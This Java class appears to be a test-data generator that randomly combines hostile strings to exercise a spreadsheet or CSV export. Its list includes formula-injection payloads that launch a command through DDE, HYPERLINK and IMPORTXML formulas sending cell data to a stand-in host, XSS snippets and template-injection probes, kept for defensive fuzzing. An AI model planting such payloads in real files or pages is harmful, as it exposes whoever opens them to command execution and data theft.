package signpost.desk;

import java.util.Random;

/// Texts by somebody who means harm to whoever opens the file: formulas in every disguise, quotes,
/// line ends, NUL, text from right to left, HTML and scripts.
public final class HostileTexts {
  private static final String[] PIECES = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "=",
    "+",
    "-",
    "@",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\",\"/C calc\")",
    "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")",
    "%0A-1",
    "'",
    "''",
    "'=1",
    "\"",
    "\"\"",
    "\"=1+1\"",
    "\";=1+1;\"",
    ";",
    ",",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\u0000",
    "\u000B",
    "\f",
    "\u001F",
    "\u007F",
    "\u0085",
    "\u00A0",
    "\u00AD",
    "\u2028",
    "\u2029",
    "\u200B",
    "\u200E",
    "\u202E",
    "\u2066",
    "\uFEFF",
    "\u3000",
    "\u3164",
    "\u180E",
    " ",
    "  ",
    "|",
    "!",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "{{7*7}}",
    "${1+1}",
    "א=1",
    "مرحبا",
    "😀",
    "é",
    "e\u0301",
    "word",
    "The map is wrong",
    "7",
    "/topics/",
    "_x003D_",
    "\\",
    "%3D",
    "\u0301",
    "\uE000"
  };

  private final Random random;

  public HostileTexts(long seed) {
    random = new Random(seed);
  }

  public String next() {
    StringBuilder text = new StringBuilder();
    int pieces = random.nextInt(1, 7);
    for (int i = 0; i < pieces; i++) {
      if (random.nextInt(12) == 0) {
        text.append(anything());
      } else {
        text.append(PIECES[random.nextInt(PIECES.length)]);
      }
    }
    return text.toString();
  }

  /// Any character but half of one.
  private String anything() {
    int c = random.nextInt(0x110000);
    return Character.getType(c) == Character.SURROGATE ? "?" : Character.toString(c);
  }
}
